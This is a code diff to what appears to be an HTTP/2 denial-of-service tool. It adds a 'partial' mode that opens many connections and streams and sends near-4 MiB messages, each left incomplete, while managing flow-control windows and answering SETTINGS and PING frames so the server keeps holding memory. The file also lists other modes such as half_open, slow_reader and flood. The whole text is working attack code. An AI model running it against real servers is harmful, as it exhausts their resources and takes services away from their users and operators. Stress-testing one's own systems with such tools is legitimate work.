@@ -136,6 +136,90 @@ def huge(attack: Attack) -> None:
     again(attack, http2.opening(), 64, act)
 
 
+def partial(attack: Attack) -> None:
+    """Messages of almost 4 MiB, each short of its last bytes, as fast as the server gives room for them."""
+    size = (4 << 20) - 100
+    senders = [_Partial(sock, size) for sock in attack.connections(http2.opening(), 8)]
+    while attack.going():
+        for sender in senders:
+            sender.go_on()
+        time.sleep(0.0005)
+    DONE["lost"] = sum(sender.lost for sender in senders)
+
+
+class _Partial:
+    """One connection: begins 32 calls and sends as much of each as flow control admits (RFC 9113, 5.2)."""
+
+    def __init__(self, sock: socket.socket, size: int) -> None:
+        self.sock = sock
+        self.lost = False
+        self._size = size
+        self._window = 65535
+        self._rooms = dict.fromkeys(range(1, 65, 2), 65535)
+        self._sent = dict.fromkeys(self._rooms, 0)
+        self._initial = 65535
+        self._heard = b""
+        self._out = b"".join(http2.request(LOAD, stream) for stream in self._rooms)
+        sock.setblocking(False)
+
+    def go_on(self) -> None:
+        if self.lost:
+            return
+        try:
+            self._hear()
+            if not self._out:
+                self._out = self._more()
+            if self._out:
+                sent = self.sock.send(self._out)
+                DONE["bytes"] += sent
+                self._out = self._out[sent:]
+        except BlockingIOError:
+            return
+        except OSError:
+            self.lost = True
+
+    def _more(self) -> bytes:
+        out = b""
+        for stream, room in self._rooms.items():
+            step = min(16384, room, self._window, self._size - self._sent[stream])
+            if step <= 5:
+                continue
+            body = struct.pack(">BI", 0, self._size) + bytes(step - 5) if not self._sent[stream] else bytes(step)
+            out += http2.frame(http2.DATA, body, stream=stream)
+            self._sent[stream] += step
+            self._rooms[stream] -= step
+            self._window -= step
+        return out
+
+    def _hear(self) -> None:
+        with contextlib.suppress(BlockingIOError):
+            data = self.sock.recv(65536)
+            if not data:
+                raise ConnectionResetError
+            self._heard += data
+        while len(self._heard) >= 9:
+            length, kind, flags = int.from_bytes(self._heard[:3], "big"), self._heard[3], self._heard[4]
+            stream, payload = int.from_bytes(self._heard[5:9], "big"), self._heard[9 : 9 + length]
+            if len(payload) < length:
+                return
+            self._heard = self._heard[9 + length :]
+            if kind == http2.WINDOW_UPDATE:
+                more = int.from_bytes(payload, "big")
+                if stream:
+                    self._rooms[stream] = self._rooms.get(stream, 0) + more
+                else:
+                    self._window += more
+            elif kind == http2.SETTINGS and not flags & http2.ACK:
+                for at in range(0, length, 6):
+                    name, value = struct.unpack(">HI", payload[at : at + 6])
+                    if name == http2.INITIAL_WINDOW_SIZE:
+                        self._rooms = {one: room + value - self._initial for one, room in self._rooms.items()}
+                        self._initial = value
+                self._out += http2.frame(http2.SETTINGS, flags=http2.ACK)
+            elif kind == http2.PING and not flags & http2.ACK:
+                self._out += http2.frame(http2.PING, payload, flags=http2.ACK)
+
+
 def slow_reader(attack: Attack) -> None:
     """Asks and never reads: the answers have no window to go to, or nobody who takes them from the socket."""
     streams: dict[socket.socket, int] = {}
@@ -224,7 +308,7 @@ def calls(attack: Attack) -> None:
     again(attack, http2.opening(window=1 << 30), 32, act)
 
 
-KINDS = {one.__name__: one for one in (crowd, half_open, endless, huge, slow_reader, noise, flood, calls)}
+KINDS = {one.__name__: one for one in (crowd, half_open, endless, huge, partial, slow_reader, noise, flood, calls)}
 
 
 def main() -> None:
